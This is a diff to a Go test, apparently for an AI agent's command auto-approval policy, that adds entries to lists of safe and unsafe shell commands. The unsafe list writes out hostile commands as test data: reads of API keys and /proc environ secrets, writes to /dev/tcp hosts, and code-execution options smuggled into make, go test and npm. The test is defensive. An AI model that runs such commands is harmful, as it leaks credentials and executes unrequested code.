@@ -40,13 +40,19 @@ func TestSafeListOptionGrammar(t *testing.T) {
 		"printenv", "printenv OPENAI_API_KEY", "env", "cat /proc/self/environ", "cat /proc/*/environ",
 		"cat /proc/1/environ", "head /proc/self/environ", "cd /proc && cat self/environ",
 		"cat /proc/self/task/1/environ", "cat < /proc/self/environ", "cat /proc/thread-self/environ",
-		"git -C /tmp/x status", "git -C .. status", "git -C ~ log", "git --git-dir=/tmp/x status",
+		"git -C /tmp/x status", "git -C .. status", "cd .. && git status", "cd /tmp && git log", "cd ~ && git diff", "git -C ~ log", "git --git-dir=/tmp/x status",
 		"git --work-tree=/tmp status", "GIT_DIR=/tmp/x git status", "git -c core.fsmonitor=x status",
 		"git --config-env=core.pager=X log", "git log --out=x", "git log --outp=x", "git diff --ext",
 		"git diff --textc", "git diff --open-files-in-pager", "git branch --del x", "git branch --mov a b",
 		"git branch --cop a b", "git branch --forc x", "git branch --set-up=x", "git branch --unset-u",
 		"env -i git status", "env -u GIT_CONFIG_COUNT git status", "env --unset=GIT_CONFIG_COUNT git status",
 		"cat < /dev/tcp/example.com/80", "grep x < /dev/udp/1.2.3.4/53", "echo x > /dev/tcp/example.com/80",
+		// Attacker variations: quoting, stacking, other spellings.
+		`"make" test "--eval=x"`, `make te''st --e\val=x`, "command make test --eval=x", "env make test -f x",
+		"exec go test -exec x ./...", "timeout 5 npm test --script-shell=x", "nice node --test --import=x",
+		"go test -race -exec=x ./...", "go test ./... -toolexec x", "go test --toolexec=x ./...",
+		"make -j4 -f x test", "make -kf x test", "make -Cx test", "make --eval x test", "make -- SHELL=x",
+		"npm run test --script-she=x", "npm test --pre=/tmp", "cd src && git -C ../.. status",
 	}
 	safe := []string{
 		"make", "make test", "make -j4 test", "make -j 4 test", "make -k check", "make -s lint", "make --jobs=8 build",
@@ -63,7 +69,7 @@ func TestSafeListOptionGrammar(t *testing.T) {
 		"sort -o out.txt in.txt", "sort --output=out.txt in.txt", "sort --outp=out.txt in.txt", "sort -rn a",
 		"grep -rn foo .", "date +%s", "date -u +%Y", "file -b a", "file --mime-type a", "rg -n foo", "fd -e go",
 		"tree -L 2", "jq . a.json", "jq -r '.name' package.json", "jq --arg x y '.a == $x' a.json",
-		"cat /proc/cpuinfo", "ls /proc/self", "head -20 README.md",
+		"cat /proc/cpuinfo", "ls /proc/self", "head -20 README.md", "cd src && git status", "git -C src/.. log -1",
 	}
 	p := policy(t, approvals.ModeAuto, nil, nil)
 	for _, cmd := range notSafe {
